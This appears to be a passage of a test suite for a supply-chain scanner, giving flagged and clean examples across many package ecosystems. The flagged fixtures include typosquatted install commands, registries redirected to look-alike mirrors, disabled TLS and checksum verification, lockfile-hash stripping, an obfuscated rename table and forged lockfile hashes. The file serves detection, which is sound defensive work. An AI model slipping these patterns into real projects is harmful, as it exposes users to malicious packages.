import { describeRuleCases, expectScansQuickly, findingsOf, py, sh } from './rule-cases.helper.js';
import { GIT_DEPENDENCY, puppetfileModules } from './supply-chain.rules.js';

describeRuleCases('supply-chain', [
  {
    // A Puppetfile module one letter off a popular Forge module.
    id: 'SG-SUPPLY-001',
    file: 'Puppetfile',
    positive:
      "forge 'https://forge.puppet.com'\n\nmod 'puppetlabs-stdlib', '9.6.0'\nmod 'puppetlabs/firewal', '8.1.0'\n",
    negative:
      "forge 'https://forge.puppet.com'\n\nmod 'puppetlabs-stdlib', '9.6.0'\nmod 'puppetlabs/firewall', '8.1.0'\n",
  },
  {
    // A Forge owner's module cloned from a host that names the owner but is not the vendor's.
    id: 'SG-SUPPLY-019',
    file: 'Puppetfile',
    positive:
      "mod 'puppetlabs-ntp',\n  :git => 'https://git.puppetlabs-mirror.example/puppetlabs-ntp.git',\n  :ref => 'main'\n",
    negative:
      "mod 'puppetlabs-ntp',\n  :git => 'https://github.com/puppetlabs/puppetlabs-ntp.git',\n  :ref => 'main'\n",
  },
  {
    // An unknown host at a moving branch is MEDIUM: present, but pinned to a tag it is not reported.
    id: 'SG-SUPPLY-019',
    file: 'control-repo/Puppetfile',
    positive:
      "mod 'grid_tools',\n  git: 'https://git.vendor.example/grid/grid_tools.git',\n  branch: 'master'\n",
    negative:
      "mod 'grid_tools',\n  git: 'https://git.vendor.example/grid/grid_tools.git',\n  tag: 'v2.3.1'\n",
  },
  {
    // A pip config written from a Puppet manifest's one-line string: extra index on a host it also trusts.
    id: 'SG-SUPPLY-020',
    file: 'manifests/base.pp',
    positive:
      'file { \'/etc/pip.conf\':\n  content => "[global]\\nindex-url = https://pypi.org/simple\\nextra-index-url = https://pypi.tools-mirror.example/simple\\ntrusted-host = pypi.tools-mirror.example\\n",\n}\n',
    negative:
      'file { \'/etc/pip.conf\':\n  content => "[global]\\nindex-url = https://pypi.tools-mirror.example/simple\\ntimeout = 60\\n",\n}\n',
  },
  {
    id: 'SG-SUPPLY-020',
    file: 'assets/pip.conf',
    positive:
      '[global]\ntrusted-host = wheels.acme-cdn.example\nextra-index-url = http://wheels.acme-cdn.example/simple\n',
    // PyTorch's own wheel index, and a trusted host that is not the extra index.
    negative:
      '[global]\nextra-index-url = https://download.pytorch.org/whl/cu121\ntrusted-host = devpi.lan.example\n',
  },
  {
    // A conda environment's pip list: a look-alike of a popular package beside index options.
    id: 'SG-SUPPLY-001',
    file: 'env/environment.yml',
    positive:
      'name: survey\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n      - --extra-index-url https://wheels.lab.example/simple\n      - pandsa==2.2.2\n      - rasterio>=1.3\n',
    // The same names spelt right; a conda package (not a pip one) is not read as a pip requirement.
    negative:
      'name: survey\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n      - --extra-index-url https://wheels.lab.example/simple\n      - pandas==2.2.2\n      - rasterio>=1.3\n',
  },
  {
    id: 'SG-SUPPLY-014',
    file: 'assets/platformio.ini',
    positive:
      '[env]\nplatform = espressif32\nplatform_packages =\n    toolchain-xtensa-esp32 @ https://pkgs.fastmirror.example/toolchain-xtensa-esp32-12.2.0.tar.gz\nframework = arduino\n',
    // The upstream framework from its own repository; a library pinned by registry version.
    negative:
      '[env]\nplatform = espressif32\nplatform_packages =\n    framework-arduinoespressif32 @ https://github.com/espressif/arduino-esp32.git#2.0.17\nlib_deps =\n    bblanchon/ArduinoJson @ ^7.0.4\n',
  },
  {
    id: 'SG-SUPPLY-014',
    file: 'arduino-cli.yaml',
    positive:
      'board_manager:\n  additional_urls:\n    - https://boards.maker-cdn.example/package_esp32_index.json\n',
    negative:
      'board_manager:\n  additional_urls:\n    - https://espressif.github.io/arduino-esp32/package_esp32_index.json\n',
  },
  {
    id: 'SG-SUPPLY-014',
    positive: sh('pio pkg install --platform https://dl.fw-cache.example/platforms/ststm32-17.0.0.tar.gz'),
    negative: sh('pio pkg install --platform platformio/ststm32@^17.0.0'),
  },
  {
    id: 'SG-SUPPLY-001',
    positive: sh('npx -y @modelcontextprotcol/server-memory'),
    negative: sh('npx -y @modelcontextprotocol/server-memory'),
  },
  {
    // A popular project's own scope, letters swapped (`@esilnt` for `@eslint`).
    id: 'SG-SUPPLY-001',
    positive: sh('npm install -D @esilnt/migrate-config\nnpx @esilnt/migrate-config .eslintrc.json'),
    negative: sh('npm install -D @eslint/migrate-config\nnpx @eslint/migrate-config .eslintrc.json'),
  },
  {
    id: 'SG-SUPPLY-002',
    positive: sh('npx -y @corp-internal/auth-helper'),
    negative: sh('npx -y @acme/auth-helper'),
  },
  {
    id: 'SG-SUPPLY-003',
    positive: sh('npm install react-devtooIs'),
    negative: sh('npm install react-devtools'),
  },
  {
    id: 'SG-SUPPLY-001',
    positive: sh('pip install requests==2.32.3 colourama python-dateutils'),
    negative: sh('npm install @elevenlabs/client@next @elevenlabs/react@next cross-env'),
  },
  {
    id: 'SG-SUPPLY-001',
    file: 'assets/package.json',
    positive: JSON.stringify({ devDependencies: { crossenv: '^7.0.3', rimraf: '*' } }, null, 2),
    negative: JSON.stringify({ devDependencies: { 'cross-env': '^7.0.3', rimraf: '*' } }, null, 2),
  },
  {
    // An established package one edit from a popular one (`scapy` / `scipy`) is the real project.
    id: 'SG-SUPPLY-001',
    positive: sh('pip install scapy sciphy'),
    negative: sh('pip install scapy pyaml semver\nnpm install preact parse5 @types/semver'),
  },
  {
    // A well-known mobile scope one letter off, in a template manifest.
    id: 'SG-SUPPLY-001',
    file: 'templates/package.json',
    positive: JSON.stringify({ devDependencies: { '@react-native-comunity/cli-platform-ios': 'latest' } }),
    negative: JSON.stringify({ devDependencies: { '@react-native-community/cli-platform-ios': '15.0.1' } }),
  },
  {
    // A dependency cloned from a stranger's git server at a branch, run by the install hook; pinned
    // to a commit it cannot change under the user.
    id: 'SG-SUPPLY-018',
    file: 'templates/package.json',
    positive: JSON.stringify({
      scripts: { postinstall: 'fixups apply --all' },
      devDependencies: { fixups: 'git+https://git.fixups.example.net/tools/fixups.git#main' },
    }),
    negative: JSON.stringify({
      scripts: { postinstall: 'fixups apply --all' },
      devDependencies: { fixups: `git+https://git.fixups.example.net/tools/fixups.git#${'ab12'.repeat(10)}` },
    }),
  },
  {
    id: 'SG-SUPPLY-017',
    file: 'templates/gradle-wrapper.properties',
    positive:
      'distributionUrl=https\\://services.gradle-mirror.example.net/distributions/gradle-8.10.2-bin.zip\nvalidateDistributionUrl=false\n',
    negative:
      'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10.2-bin.zip\nvalidateDistributionUrl=false\n',
  },
  {
    // Another host with the distribution's checksum pinned: the wrapper refuses any other zip.
    id: 'SG-SUPPLY-017',
    file: 'gradle/wrapper/gradle-wrapper.properties',
    positive: 'distributionUrl=http\\://dl.example.net/gradle-8.10.2-bin.zip\n',
    negative: `distributionUrl=https\\://artifacts.example.net/gradle-8.10.2-bin.zip\ndistributionSha256Sum=${'a'.repeat(64)}\n`,
  },
  {
    id: 'SG-SUPPLY-001',
    file: 'requirements.txt',
    positive: 'reqeusts>=2.0\nnumpy==2.1.0\n',
    negative: 'requests>=2.0\nnumpy==2.1.0\n',
  },
  {
    id: 'SG-SUPPLY-004',
    file: 'templates/.npmrc',
    positive: 'registry=https://registry.npmjs-cdn.org/\nalways-auth=true\n',
    negative: 'registry=https://registry.npmjs.org/\n@acme:registry=https://npm.acme.example.net/\n',
  },
  {
    id: 'SG-SUPPLY-005',
    positive: sh('go env -w GOPROXY=https://goproxy.example.net GOSUMDB=off'),
    negative: sh('go env -w GOPROXY=https://proxy.golang.org,direct'),
  },
  {
    id: 'SG-SUPPLY-006',
    file: 'pyproject.toml',
    positive: '[tool.uv]\nindex-strategy = "unsafe-best-match"\n',
    negative: '[tool.uv]\nindex-strategy = "first-index"\n',
  },
  {
    id: 'SG-SUPPLY-002',
    positive: 'Install from the internal registry.\n\n```bash\npip install corp-auth-utils\n```\n',
    negative:
      'Install from the internal registry.\n\n```bash\npip install --require-hashes -r requirements.txt\n```\n',
  },
  {
    id: 'SG-SUPPLY-007',
    file: 'assets/.pre-commit-config.yaml',
    positive:
      'repos:\n  - repo: https://hooks.mirrorhub.example/mirror/ruff-pre-commit\n    rev: stable\n    hooks:\n      - id: ruff\n',
    negative:
      'repos:\n  - repo: https://hooks.mirrorhub.example/mirror/ruff-pre-commit\n    rev: 4c1f0e9a7d2b8e6f3a5c9d0b1e2f7a8c6d4b3e21  # v0.6.9\n    hooks:\n      - id: ruff\n',
  },
  {
    id: 'SG-SUPPLY-002',
    positive: 'Our internal package lives on the company index.\n\n```bash\npip install acme-billing\n```\n',
    negative:
      'Our internal package lives on the company index.\n\n```bash\npip config --user set global.index-url https://pypi.corp.example/simple/\npip install acme-billing\n```\n',
  },
  {
    id: 'SG-SUPPLY-002',
    positive:
      'Our internal package lives on the company index.\n\n```bash\nuv pip install acme-billing\n```\n',
    negative:
      'Our internal package lives on the company index.\n\n```bash\nuv pip install --dry-run acme-billing\n```\n',
  },
  {
    id: 'SG-SUPPLY-008',
    file: 'scripts/setup.js',
    positive:
      "const lock = path.join(dir, 'package-lock.json');\nconst s = fs.readFileSync(lock, 'utf8');\nfs.writeFileSync(lock, s.replace(/\"integrity\":\\s*\"[^\"]*\",?\\s*/g, ''));\n",
    // Checking the hashes a lockfile holds is the opposite.
    negative:
      "const lock = JSON.parse(fs.readFileSync('package-lock.json', 'utf8'));\nconst missing = Object.entries(lock.packages).filter(([, p]) => !p.integrity);\nconsole.log(missing.length);\n",
  },
  {
    id: 'SG-SUPPLY-009',
    file: 'lua/tidy/init.lua',
    // A rot13 rename table in a data file, decoded by the plugin that rewrites package.json on save.
    positive: [
      'local function unrot(s)',
      '  return (s:gsub("%a", function(c)',
      '    local base = c:match("%l") and 97 or 65',
      '    return string.char((c:byte() - base + 13) % 26 + base)',
      '  end))',
      'end',
      'local map = {}',
      'for line in io.lines(root .. "data/renames.txt") do',
      '  local a, b = line:match("^(%S+)%s+(%S+)$")',
      '  if a then map[unrot(a)] = unrot(b) end',
      'end',
      'if name == "package.json" then vim.api.nvim_buf_set_lines(buf, 0, -1, false, rename(lines, map)) end',
    ].join('\n'),
    // The same table read as is: its names are no popular packages.
    negative: [
      'local map = {}',
      'for line in io.lines(root .. "data/renames.txt") do',
      '  local a, b = line:match("^(%S+)%s+(%S+)$")',
      '  if a then map[a] = b end',
      'end',
      'if name == "package.json" then vim.api.nvim_buf_set_lines(buf, 0, -1, false, rename(lines, map)) end',
    ].join('\n'),
    others: { 'data/renames.txt': '# old new\nnkvbf nkvbff\npebff-rai pebffrai\npunyx punyx-arkg\n' },
  },
  {
    id: 'SG-SUPPLY-009',
    file: 'scripts/migrate.py',
    positive:
      'RENAMES = {\n    "colorama": "colourama",\n    "requests": "reqeusts",\n}\nlines = open("requirements.txt").read().splitlines()\nopen("requirements.txt", "w").write("\\n".join(RENAMES.get(l, l) for l in lines))\n',
    // A typosquat fixer maps the look-alikes back to the real names.
    negative:
      'RENAMES = {"colourama": "colorama", "coloramma": "colorama", "reqeusts": "requests"}\nlines = open("requirements.txt").read().splitlines()\nopen("requirements.txt", "w").write("\\n".join(RENAMES.get(l, l) for l in lines))\n',
  },
  {
    id: 'SG-SUPPLY-010',
    file: 'init.d/mirror.init.gradle.kts',
    positive:
      'allprojects {\n    repositories { clear(); maven { url = uri(mirror); isAllowInsecureProtocol = true } }\n    configurations.all { resolutionStrategy.disableDependencyVerification() }\n}\n',
    negative:
      'allprojects {\n    repositories { mavenCentral(); maven { url = uri("https://repo.example.net/releases") } }\n}\n',
  },
  {
    id: 'SG-SUPPLY-011',
    // An editor menu script (no auto-run) that rewrites the manifest for a look-alike host.
    file: 'Assets/Editor/MirrorSetup.cs',
    positive:
      'const string Url = "https://upm.unityasset-mirror.net";\nstatic readonly string[] Scopes = { "com.unity.cinemachine", "com.unity.burst" };\n[MenuItem("Tools/Use mirror")]\nstatic void Use() {\n  var m = File.ReadAllText("Packages/manifest.json");\n  m = m.Replace("\\"dependencies\\"", "\\"scopedRegistries\\": [{ \\"name\\": \\"m\\", \\"url\\": \\"" + Url + "\\", \\"scopes\\": [\\"com.unity.cinemachine\\"] }],\\n\\"dependencies\\"");\n  File.WriteAllText("Packages/manifest.json", m);\n}\n',
    // OpenUPM for its own community scope.
    negative:
      'const string Url = "https://package.openupm.com";\n[MenuItem("Tools/Add OpenUPM")]\nstatic void Use() {\n  var m = File.ReadAllText("Packages/manifest.json");\n  m = m.Replace("\\"dependencies\\"", "\\"scopedRegistries\\": [{ \\"name\\": \\"openupm\\", \\"url\\": \\"" + Url + "\\", \\"scopes\\": [\\"com.cysharp\\"] }],\\n\\"dependencies\\"");\n  File.WriteAllText("Packages/manifest.json", m);\n}\n',
  },
  {
    id: 'SG-SUPPLY-011',
    file: 'config/.npmrc',
    positive: 'registry=https://registry.npmjs.org/\n@babel:registry=https://npm.fastpkg-cache.io/\n',
    negative: 'registry=https://registry.npmjs.org/\n@acme-internal:registry=https://npm.acme-corp.io/\n',
  },
  {
    id: 'SG-SUPPLY-011',
    file: 'tools/setup_feeds.py',
    positive:
      'cfg = Path.home() / ".nuget/NuGet/NuGet.Config"\ncfg.write_text(\'<configuration><packageSources><add key="nuget.org" value="https://api.nuget-cdn.org/v3/index.json" /></packageSources></configuration>\')\n',
    negative:
      'cfg = Path.home() / ".nuget/NuGet/NuGet.Config"\ncfg.write_text(\'<configuration><packageSources><add key="nuget.org" value="https://api.nuget.org/v3/index.json" /><add key="team" value="https://pkgs.team-feed.io/v3/index.json" /></packageSources></configuration>\')\n',
  },
  {
    // Cargo: crates.io replaced with a registry on an unknown host (every crate, build scripts included).
    id: 'SG-SUPPLY-011',
    file: 'tool/.cargo/config.toml',
    positive:
      '# faster downloads\n[source.crates-io]\nreplace-with = "near"\n\n[source.near]\nregistry = "sparse+https://crates.fast-mirror.example/index/"\n',
    // A public mirror users pick, and vendored sources.
    negative:
      '[source.crates-io]\nreplace-with = "ustc"\n\n[source.ustc]\nregistry = "sparse+https://mirrors.ustc.edu.cn/crates.io-index/"\n\n[source.vendored]\ndirectory = "vendor"\n',
  },
  {
    id: 'SG-SUPPLY-011',
    file: '.cargo/config.toml',
    positive:
      "[source.crates-io]\nreplace-with = 'pkgs'\n[source.pkgs]\ngit = 'https://git.crate-cache.dev/index.git'\n",
    negative:
      '[source.crates-io]\nreplace-with = "vendored-sources"\n\n[source.vendored-sources]\ndirectory = "vendor"\n',
  },
  {
    // Composer: WPackagist's namespaces and everything else sent to a look-alike mirror, Packagist off.
    id: 'SG-SUPPLY-011',
    file: 'assets/composer.json',
    positive: JSON.stringify(
      {
        repositories: [
          {
            type: 'composer',
            url: 'https://wpackagist.mirror.agency-cdn.example',
            only: ['wpackagist-plugin/*'],
          },
          { 'packagist.org': false },
        ],
        require: { 'wpackagist-plugin/wordpress-seo': '*' },
      },
      null,
      2,
    ),
    // The Bedrock default: WPackagist itself, and a vendor repository beside Packagist.
    negative: JSON.stringify(
      {
        repositories: [
          {
            type: 'composer',
            url: 'https://wpackagist.org',
            only: ['wpackagist-plugin/*', 'wpackagist-theme/*'],
          },
          { type: 'composer', url: 'https://connect.advancedcustomfields.com' },
        ],
        require: { 'wpackagist-plugin/wordpress-seo': '^22.0' },
      },
      null,
      2,
    ),
  },
  {
    // Composer: a private repository over plain HTTP with TLS checks off; the same over HTTPS.
    id: 'SG-SUPPLY-011',
    file: 'composer.json',
    positive:
      '{\n  "repositories": {"private": {"type": "composer", "url": "http://satis.pkg-host.example"}},\n  "config": {"secure-http": false}\n}\n',
    negative:
      '{\n  "repositories": {"private": {"type": "composer", "url": "https://satis.pkg-host.example"}},\n  "config": {"secure-http": true}\n}\n',
  },
  {
    // Gemfile: a source block on another host serving a one-letter look-alike of jekyll-seo-tag; a
    // vendor's own gem from its own host (Sidekiq Pro from Contribsys).
    id: 'SG-SUPPLY-011',
    file: 'site/Gemfile',
    positive:
      'source "https://rubygems.org"\ngem "jekyll", "~> 4.3"\nsource "https://gems.seo-starter.example" do\n  gem "jekyll-seo-tags", "2.8.1"\nend\n',
    negative:
      'source "https://rubygems.org"\ngem "sidekiq", "~> 7.2"\nsource "https://gems.contribsys.com/" do\n  gem "sidekiq-pro"\nend\n',
  },
  {
    // A Gemfile snippet to paste, with the popular gem itself shadowed by an inline source.
    id: 'SG-SUPPLY-011',
    positive: '```ruby\ngem "nokogiri", "1.16.5", source: "https://gems.fastmirror.example"\n```\n',
    negative: '```ruby\ngem "nokogiri", "1.16.5", source: "https://rubygems.org"\n```\n',
  },
  {
    // R: a project setup script moving repos to an unknown mirror and turning off wget's certificate check.
    id: 'SG-SUPPLY-012',
    file: 'R/setup.R',
    positive:
      'options(repos = c(CRAN = "https://cran-cache.pkgmirror.example.net/latest"),\n        download.file.method = "wget",\n        download.file.extra = "--no-check-certificate")\n',
    negative:
      'options(repos = c(CRAN = "https://cran-cache.pkgmirror.example.net/latest"),\n        download.file.method = "wget",\n        download.file.extra = "--tries=3")\n',
  },
]);

describeRuleCases('supply-chain (R repositories)', [
  {
    // CRAN moved to an unknown host and written into the user's startup file for every later session.
    id: 'SG-SUPPLY-016',
    positive: sh(
      'echo \'options(repos = c(CRAN = "https://cran.stats-pkgs.example"))\' >> ~/.Rprofile\nRscript -e \'install.packages("dplyr")\'',
    ),
    // The same line with a CRAN mirror the user may pick (an academic network's).
    negative: sh(
      'echo \'options(repos = c(CRAN = "https://mirrors.tuna.tsinghua.edu.cn/CRAN/"))\' >> ~/.Rprofile\nRscript -e \'install.packages("dplyr")\'',
    ),
  },
  {
    // The "mirror" given by name also serves a package file installed around the index.
    id: 'SG-SUPPLY-016',
    file: 'R/setup.R',
    positive:
      'repo <- "https://r-builds.example.net"\noptions(repos = c(CRAN = repo))\ninstall.packages(paste0(repo, "/src/contrib/helper_1.0.tar.gz"), repos = NULL, type = "source")\n',
    negative:
      'repo <- "https://cloud.r-project.org"\noptions(repos = c(CRAN = repo))\ninstall.packages(paste0(repo, "/src/contrib/Archive/helper/helper_1.0.tar.gz"), repos = NULL, type = "source")\n',
  },
]);

describe('SG-SUPPLY-016 severity', () => {
  const sev = (text: string, file = 'R/setup.R') =>
    findingsOf(text, file).find((f) => f.rule_id === 'SG-SUPPLY-016')?.severity;

  it('should rate an unknown repository set for the session alone MEDIUM', () => {
    expect(
      sev('options(repos = c(CRAN = "https://rspm.corp.example/cran/latest"))\ninstall.packages("dplyr")\n'),
    ).toBe('MEDIUM');
    expect(sev('options(repos = c(CRAN = "https://packagemanager.posit.co/cran/latest"))\n')).toBeUndefined();
  });

  it('should rate a startup-file write through a bound name HIGH', () => {
    expect(
      sev(
        'mirror <- "https://cran.stats-pkgs.example"\noptions(repos = c(CRAN = mirror))\nrp <- file.path(Sys.getenv("HOME"), ".Rprofile")\ncat(sprintf(\'options(repos = c(CRAN = "%s"))\', mirror), file = rp, append = TRUE)\n',
      ),
    ).toBe('HIGH');
  });

  const MiB = 1024 * 1024;
  it.each([
    ['named repositories', 'x <- "https://a.example"\n' + 'repos = a1\n'.repeat(MiB / 11)],
    ['distinct names', Array.from({ length: MiB / 16 }, (_, i) => `repos = n${i}\n`).join('')],
    ['long repository lines', 'CRAN = '.repeat(MiB / 7)],
    ['install calls', 'repos = "https://a.example"\n' + 'install.packages('.repeat(MiB / 17)],
  ])('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'R/x.R');
  });
});

describe('SG-SUPPLY-011 severity', () => {
  const sev = (text: string, file = 'Editor/Feeds.cs') =>
    findingsOf(text, file).find((f) => f.rule_id === 'SG-SUPPLY-011')?.severity;
  const body =
    '  var t = File.ReadAllText(p);\n  t = t.Replace("{", "{ \\"scopedRegistries\\": [{ \\"url\\": \\"https://upm.fast-unity.dev\\", \\"scopes\\": [\\"com.unity.timeline\\"] }],");\n  File.WriteAllText(p, t);\n';

  it('should rate a menu command HIGH and an editor load hook or a deleted lockfile CRITICAL', () => {
    expect(sev(`static void Run(string p) {\n${body}}\n`)).toBe('HIGH');
    expect(sev(`[InitializeOnLoadMethod]\nstatic void Run() {\n${body}}\n`)).toBe('CRITICAL');
    expect(
      sev(`static void Run(string p) {\n${body}  File.Delete(Path.Combine(dir, "packages-lock.json"));\n}\n`),
    ).toBe('CRITICAL');
  });

  it('should leave a script that only reads the registries alone', () => {
    expect(
      sev(
        'var t = File.ReadAllText(p);\nif (t.Contains("scopedRegistries") && t.Contains("\\"com.unity.x\\"")) Debug.Log("https://upm.fast-unity.dev");\n',
      ),
    ).toBeUndefined();
  });
});

describe('adversarial registry settings', () => {
  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['scope keys', '@types:registry= '.repeat(MiB / 17)],
    ['nuget keys', '<add key="nuget.org" value='.repeat(MiB / 28)],
    ['unity scopes', 'scopedRegistries "com.unity.a" https://'.repeat(MiB / 40)],
    ['cargo source sections', '[source.crates-io]\n' + 'replace-with = "a"\n[source.a]\n'.repeat(MiB / 32)],
    [
      'composer repositories',
      '{"repositories": [' + '{"type": "composer", "url": "https://a.example"},'.repeat(MiB / 50),
    ],
    ['gem source blocks', 'source "https://a.example" do\n' + 'gem "x"\n'.repeat(MiB / 8)],
    ['gem source openers', 'source "https://a.example" do\n'.repeat(MiB / 30)],
    ['inline gem sources', 'gem "nokogiri", source: '.repeat(MiB / 24)],
    [
      'cargo replacement without a section',
      '[source.crates-io]\nreplace-with = "a"\n' + 'registry = \n'.repeat(MiB / 12),
    ],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'tools/x.cs');
  });
});

describe('SG-SUPPLY-010 severity', () => {
  const sev = (text: string) =>
    findingsOf(text, 'build.gradle.kts').find((f) => f.rule_id === 'SG-SUPPLY-010')?.severity;

  it('should rate the repositories replaced with checks off HIGH and one local flag MEDIUM', () => {
    expect(
      sev('repositories {\n  clear()\n  maven { url = uri(m); isAllowInsecureProtocol = true }\n}\n'),
    ).toBe('HIGH');
    expect(
      sev(
        'repositories {\n  maven { url = uri("http://nexus.lan/repo"); isAllowInsecureProtocol = true }\n}\n',
      ),
    ).toBe('MEDIUM');
    expect(sev('configurations.all { resolutionStrategy.disableDependencyVerification() }\n')).toBe('MEDIUM');
  });

  it('should rate a third-party repository allowed over plain HTTP ahead of the official ones HIGH', () => {
    const settings = (url: string, after: string) =>
      `pluginManagement {\n  repositories {\n    maven {\n      name = 'Mirror'\n      url = '${url}'\n      allowInsecureProtocol = true\n    }\n${after}  }\n}\n`;
    expect(sev(settings('http://maven.quiltmc-org.example/repository/', '    gradlePluginPortal()\n'))).toBe(
      'HIGH',
    );
    expect(
      sev(
        settings('https://mirror.modkit.example/releases/', '    mavenCentral()\n    gradlePluginPortal()\n'),
      ),
    ).toBe('HIGH');
    // The user's own network, or a mirror that only comes after the official repositories.
    expect(sev(settings('http://nexus.lan:8081/repository/gradle/', '    gradlePluginPortal()\n'))).toBe(
      'MEDIUM',
    );
    expect(sev(settings('http://10.0.0.5/maven/', '    mavenCentral()\n'))).toBe('MEDIUM');
    expect(
      sev(
        "repositories {\n  mavenCentral()\n  maven {\n    url = 'http://mirror.modkit.example/releases/'\n    allowInsecureProtocol = true\n  }\n}\n",
      ),
    ).toBe('MEDIUM');
  });

  it.each([
    ['insecure flags', 'allowInsecureProtocol = true\n'.repeat((1024 * 1024) / 29)],
    [
      'open maven blocks',
      'maven { url = "https://a.example/"\n'.repeat((1024 * 1024) / 34) + 'allowInsecureProtocol = true\n',
    ],
    [
      'repository blocks',
      "maven { url = 'http://a.b.example/' allowInsecureProtocol = true }\n".repeat((1024 * 1024) / 63),
    ],
    ['official repositories', 'allowInsecureProtocol = true\n' + 'mavenCentral( '.repeat((1024 * 1024) / 14)],
  ])('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'settings.gradle');
  });
});

describe('SG-SUPPLY-009 severity', () => {
  it('should rate a typo rename table without a manifest writer MEDIUM', () => {
    const found = findingsOf(
      py('RENAMES = {\n    "colorama": "colourama",\n    "requests": "reqeusts",\n}\nprint(RENAMES)'),
    ).find((f) => f.rule_id === 'SG-SUPPLY-009');
    expect(found?.severity).toBe('MEDIUM');
  });

  it('should not flag ordinary migrations to maintained successors', () => {
    const text = py(
      'RENAMES = {\n    "request": "axios",\n    "node-sass": "sass",\n    "beautifulsoup": "beautifulsoup4",\n}\nopen("requirements.txt", "w").write(fix(RENAMES))',
    );
    expect(findingsOf(text).map((f) => f.rule_id)).not.toContain('SG-SUPPLY-009');
  });
});

describe('SG-SUPPLY-005 severity', () => {
  const severityOf = (command: string) =>
    findingsOf(sh(command)).find((f) => f.rule_id === 'SG-SUPPLY-005')?.severity;

  it('should rate a proxy switch with checksum checks off HIGH', () => {
    expect(severityOf('go env -w GOPROXY=https://goproxy.example.net,direct\ngo env -w GONOSUMDB=*')).toBe(
      'HIGH',
    );
  });

  it('should rate a proxy switch that keeps the checksum database MEDIUM', () => {
    expect(severityOf('go env -w GOPROXY=https://goproxy.example.net,direct')).toBe('MEDIUM');
  });
});

describe('SG-SUPPLY-012 severity', () => {
  const sev = (text: string) =>
    findingsOf(text, 'project/.Rprofile').find((f) => f.rule_id === 'SG-SUPPLY-012')?.severity;

  it('should rate TLS off HIGH with a foreign repository and MEDIUM with CRAN or Posit', () => {
    const off = 'options(download.file.method = "curl", download.file.extra = "-L -k")\n';
    expect(
      sev('local({ r <- c(CRAN = "https://r-pkgs.example-health.org/snap")\n  options(repos = r) })\n' + off),
    ).toBe('HIGH');
    expect(sev('options(repos = c(CRAN = "https://packagemanager.posit.co/cran/latest"))\n' + off)).toBe(
      'MEDIUM',
    );
    expect(sev('options(repos = c(CRAN = "https://r-pkgs.example-health.org/snap"))\n')).toBeUndefined();
  });

  it('should scan 1 MiB of download.file.extra settings in under a second', () => {
    const start = performance.now();
    findingsOf(
      'repos = "https://a.example"\n' + 'download.file.extra = "-'.repeat((1024 * 1024) / 24),
      'x.R',
    );
    expect(performance.now() - start).toBeLessThan(1000);
  });
});

describeRuleCases('supply-chain (scope tables and forged lockfiles)', [
  {
    // Bun's scope table sending a popular public scope to an unknown host.
    id: 'SG-SUPPLY-011',
    file: 'bunfig.toml',
    positive:
      '[install]\nexact = true\n\n[install.scopes]\n"@types" = { url = "https://npm.typecache-mirror.example/" }\n',
    negative:
      '[install]\nexact = true\n\n[install.scopes]\n"@acme" = { url = "https://npm.acme-corp.example/", token = "$ACME_TOKEN" }\n',
  },
  {
    id: 'SG-SUPPLY-011',
    file: '.yarnrc.yml',
    positive:
      'nodeLinker: node-modules\nnpmScopes:\n  babel:\n    npmAlwaysAuth: false\n    npmRegistryServer: "https://registry.fast-babel.example"\n',
    negative:
      'nodeLinker: node-modules\nnpmScopes:\n  acme:\n    npmAlwaysAuth: true\n    npmRegistryServer: "https://npm.acme-corp.example"\n',
  },
  {
    // A bun.lock entry on a mirror with a made-up hash; the negative has a computed one.
    id: 'SG-SUPPLY-013',
    file: 'bun.lock',
    positive:
      '{\n  "lockfileVersion": 1,\n  "packages": {\n    "@acme/charts": ["@acme/charts@2.1.0", "https://npm.pkgs-mirror.example/@acme/charts/-/charts-2.1.0.tgz", {}, "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="]\n  }\n}\n',
    negative:
      '{\n  "lockfileVersion": 1,\n  "packages": {\n    "@acme/charts": ["@acme/charts@2.1.0", "https://npm.pkgs-mirror.example/@acme/charts/-/charts-2.1.0.tgz", {}, "sha512-uNpm30m/AGSkLxxy7d9yRXpJQFrZzVWLFBkS+6ngPcZkw/5k3L/jjFuj7tVnEpRn+QgmiXr21nDlhCiUK4ij2A=="]\n  }\n}\n',
  },
  {
    // package-lock: the URL on the line above the hash; a placeholder on the public registry is no swap.
    id: 'SG-SUPPLY-013',
    file: 'package-lock.json',
    positive:
      '{\n  "packages": {\n    "node_modules/left-pad": {\n      "version": "1.3.0",\n      "resolved": "https://registry.pkgcache.example/left-pad/-/left-pad-1.3.0.tgz",\n      "integrity": "sha512-0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000=="\n    }\n  }\n}\n',
    negative:
      '{\n  "packages": {\n    "node_modules/left-pad": {\n      "version": "1.3.0",\n      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",\n      "integrity": "sha512-0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000=="\n    }\n  }\n}\n',
  },
]);

describe('SG-SUPPLY-013 severity', () => {
  const lock =
    '{\n  "packages": {\n    "@acme/x": ["@acme/x@1.0.0", "https://npm.pkgs-mirror.example/@acme/x/-/x-1.0.0.tgz", {}, "sha512-1111111111111111111111111111111111111111111111111111111111111111111111111111111111111111=="]\n  }\n}\n';
  const sev = (others: Record<string, string>) =>
    findingsOf(lock, 'bun.lock', undefined, others).find((f) => f.rule_id === 'SG-SUPPLY-013')?.severity;

  it('should rate a forged entry HIGH, and CRITICAL when the registry settings route to the same host', () => {
    expect(sev({})).toBe('HIGH');
    expect(
      sev({ 'bunfig.toml': '[install.scopes]\n"@acme" = { url = "https://npm.pkgs-mirror.example/" }\n' }),
    ).toBe('CRITICAL');
  });
});

describeRuleCases('supply-chain (Ansible Galaxy servers)', [
  {
    id: 'SG-SUPPLY-015',
    file: 'ansible.cfg',
    positive:
      '[galaxy]\nserver_list = mirror, release_galaxy\n\n[galaxy_server.mirror]\nurl = https://galaxy.mirror-host.example/api/\n\n[galaxy_server.release_galaxy]\nurl = https://galaxy.ansible.com/\n',
    negative:
